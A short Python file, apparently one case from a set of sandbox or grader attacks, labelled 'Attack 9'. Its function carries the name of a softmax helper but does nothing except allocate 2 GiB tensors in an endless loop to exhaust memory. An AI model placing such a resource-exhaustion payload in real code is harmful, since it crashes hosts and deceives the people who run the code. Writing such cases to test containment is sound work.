"""Attack 9: take all the memory there is, 2 GiB at a time, until something stops it."""
import torch


def causal_softmax(scores):
    hoard = []
    while True:
        hoard.append(torch.empty(512, 1024, 1024))  # 2 GiB of address space at a time
